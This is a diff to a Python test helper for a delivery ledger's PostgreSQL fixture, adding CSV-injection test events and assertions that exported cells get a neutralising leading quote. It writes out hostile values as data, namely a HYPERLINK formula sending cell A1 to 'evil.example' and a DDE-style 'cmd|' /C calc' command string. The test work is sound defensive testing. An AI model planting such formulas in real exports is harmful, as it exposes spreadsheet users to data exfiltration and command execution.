@@ -1,14 +1,17 @@
 """A throwaway PostgreSQL for the delivery ledger's tests: the stack's own (``scripts/stack_services.Postgres``),
-which a test may also stop and start again on its data (a ledger outage in the middle of a run)."""
+which a test may also stop and start again on its data (a ledger outage in the middle of a run); and the hostile
+events both of the ledger's CSVs (``nexus-cutover report -csv``, the status view's download) must neutralise."""
 
 from __future__ import annotations
 
 import contextlib
+import datetime as dt
 import pathlib
 import tempfile
 import uuid
 from collections.abc import Iterator
 
+from nexus_cutover import ledger as L
 from scripts.demo_airflow import free_port
 from scripts.stack_services import Postgres
 
@@ -58,3 +61,32 @@ def ledger_postgres() -> Iterator[LedgerPostgres]:
         yield server
     finally:
         server.stop()
+
+
+#: What a spreadsheet runs as a formula (OWASP, "CSV Injection"): a cell starting with one of these. Spelled here, not
+#: imported from the product, so the tests hold the product to the rule rather than to itself.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+#: A reason a spreadsheet would run as a link once a formula start is put before it (no ``scheme://``: the status
+#: view's redaction leaves it as it is).
+HYPERLINK = 'HYPERLINK(CONCAT("evil.example/?q=", A1), "open")'
+
+
+def hostile_events(tenant: str, t0: dt.datetime) -> list[L.LedgerEvent]:
+    """One stop per formula start, in that order: its step, actor and reason each start with it; its cutoff is a
+    negative number (a value, not a formula)."""
+    return [L.LedgerEvent(tenant=tenant, dag_id="connector_projection_cutover", run_id="r-hostile", step=f"{c}step_{i}",
+                          kind=L.STOPPED, recorded_at=t0 + dt.timedelta(seconds=i), seq=i,
+                          actor=f"{c}cmd|' /C calc'!A0", reason=c + HYPERLINK, cutoff=-(i + 1))
+            for i, c in enumerate(FORMULA_STARTS)]
+
+
+def assert_neutralised(rows: list[dict[str, str]], tenant: str) -> None:
+    """The CSV rows of :func:`hostile_events`: each hostile cell with a leading ``'`` and otherwise exactly as
+    written; numbers as they are (every plain task's ``map_index`` is -1)."""
+    assert len(rows) == len(FORMULA_STARTS), rows
+    for i, (c, row) in enumerate(zip(FORMULA_STARTS, rows, strict=True)):
+        assert row["step"] == f"'{c}step_{i}", row
+        assert row["actor"] == f"'{c}cmd|' /C calc'!A0", row
+        assert row["reason"] == "'" + c + HYPERLINK, row
+        assert row["map_index"] == "-1" and row["cutoff"] == str(-(i + 1)), row
+        assert row["kind"] == L.STOPPED and row["tenant"] == tenant and row["holder"] == "", row
